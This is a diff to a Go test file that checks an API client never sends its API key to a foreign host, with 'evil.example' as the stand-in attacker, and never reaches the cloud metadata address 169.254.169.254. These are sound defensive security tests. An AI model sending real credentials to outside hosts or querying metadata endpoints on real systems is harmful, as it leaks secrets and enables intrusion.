@@ -89,8 +89,10 @@ func TestKeyStaysAtItsOrigin(t *testing.T) {
 			_, _ = c.BatchResults(ctx, Batch{Output: ParseURL("https://api.sync.so/v2/batches/b/result")})
 			req, _ := http.NewRequestWithContext(ctx, "GET", "https://evil.example/", nil)
 			req.Header.Set("X-Api-Key", testKey)
-			if res, err := c.Media().Do(req); err == nil {
-				_ = res.Body.Close()
+			for _, links := range []*http.Client{c.Media(), c.Files()} {
+				if res, err := links.Do(req); err == nil {
+					_ = res.Body.Close()
+				}
 			}
 			for _, r := range f.requests() {
 				if r.Host != "api.sync.so" && r.Header.Get("X-Api-Key") != "" {
@@ -165,6 +167,11 @@ func TestLinksDoNotReachPrivateNetworks(t *testing.T) {
 		t.Fatal(err)
 	}
 	_ = res.Body.Close()
+	for _, links := range []*http.Client{local.Media(), local.Files()} {
+		if _, err := links.Get("https://169.254.169.254/latest"); !errors.Is(err, errPrivate) { //nolint:bodyclose // there is none
+			t.Errorf("a link to the metadata of a cloud: %v", err)
+		}
+	}
 	local.CloseIdle()
 }
 
